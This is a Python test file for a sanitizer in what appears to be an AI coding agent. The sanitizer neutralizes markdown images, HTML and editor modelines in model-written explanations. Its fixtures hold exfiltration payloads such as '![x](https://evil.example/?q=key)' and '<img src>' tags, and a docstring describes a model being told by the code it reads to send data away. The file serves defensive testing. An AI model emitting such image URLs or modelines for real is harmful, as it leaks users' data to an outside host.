"""An explanation that is looked at fetches nothing and runs nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from parley_agent.refactor.requests import Explained
from parley_agent.refactor.still_markdown import still
from parley_agent.refactor.tasks import TaskClass

STAYS = [
    "It returns `vector<int>` and `![0]`.",
    "```js\nif (![1].length) { x = <b>1</b>; }\n```",
    "    <img src=x>\n",
    "See [the manual](https://docs.python.org) and <https://python.org>.",
    "a < b and c > d, x<3",
    "1 <!",
    "In vim, `:w` writes; the index: 3.",
]


@pytest.mark.parametrize("text", STAYS)
def test_code_and_links_stay_as_they_are(text):
    """Most explanations are not touched."""
    assert still(text) == text


MOVES = {
    "![x](https://evil.example/?q=key)": "[x](https://evil.example/?q=key)",
    "Look: ![x][1]\n\n[1]: https://evil.example": "Look: [x][1]\n\n[1]: https://evil.example",
    "<img src='https://evil.example'>": "&lt;img src='https://evil.example'>",
    "a <img src=//evil.example/x> b": "a &lt;img src=//evil.example/x> b",
    "[![x](https://evil.example)](https://a.example)": "[[x](https://evil.example)](https://a.example)",
    "- item\n  ![x](//evil.example)\n\n`![0]`": "- item\n  [x](//evil.example)\n\n`![0]`",
    "<script>run()</script>": "&lt;script>run()&lt;/script>",
    "# ![x](y)": "# [x](y)",
    "| a |\n|---|\n| ![x](y) |": "| a |\n|---|\n| [x](y) |",
    "!![x](y)": "[x](y)",
}


@pytest.mark.parametrize(("text", "shown"), MOVES.items(), ids=lambda each: each[:20])
def test_images_become_links_and_html_becomes_text(text, shown):
    """Whatever form they have."""
    assert still(text) == shown


OBEYED = {
    "It adds.\n\n vim: set modeline nowrap:": "It adds.\n\n vim : set modeline nowrap:",
    "# vi:noai:sw=3": "# vi :noai:sw=3",
    "x ex:ai": "x ex :ai",
    "vim>700:foo": "vim>700 :foo",
    "<!-- -*- mode: sh -*- -->": "&lt;!-- - * - mode: sh - * - -->",
    "It adds.\n\nLocal Variables:\neval: (x)\nEnd:": "It adds.\n\nlocal variables :\neval: (x)\nEnd:",
}


@pytest.mark.parametrize(("text", "shown"), OBEYED.items(), ids=lambda each: each[:20])
def test_no_editor_obeys_a_line_of_an_explanation(text, shown):
    """Some show it as a file that they open, and set options as its lines say."""
    assert still(text) == shown


def moving(tokens):
    """The kinds of what a viewer would fetch or obey."""
    for token in tokens:
        if token.type in ("image", "html_inline", "html_block"):
            yield token.type
        yield from moving(token.children or ())


SIGNS = ("!", "[", "]", "(", ")", "<", ">", "`", "```", "~~~", "\n", "\n\n", "    ", "\t", "- ", "> ", "\\", "|", "---")
WORDS = ("&lt;", "img src=x", "a", "//e.example", "!--", "--", "[1]: x", "<!", "?", "<b", "/b>", "![x](y)", "<img x>")
PIECES = st.sampled_from([*SIGNS, *WORDS])


@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_a_model_writes_a_viewer_fetches_nothing(text):
    """By the parser that viewers have, and a second look changes nothing more."""
    shown = still(text)
    assert list(moving(MarkdownIt("js-default", {"html": True}).parse(shown))) == []
    assert still(shown) == shown


async def test_an_explanation_is_still(bench):
    """The model may have been told by the code to send away what it reads."""
    case = bench("def f():\n    ¦pass\n", "It passes. ![x](https://evil.example/?q=key)")
    assert await case.last(TaskClass.EXPLAIN) == Explained(text="It passes. [x](https://evil.example/?q=key)")
    case = bench("def f():\n    ¦pass\n", "    <img src=x>\n\nIt passes.")
    assert await case.last(TaskClass.EXPLAIN) == Explained(text="&lt;img src=x>\n\nIt passes.")
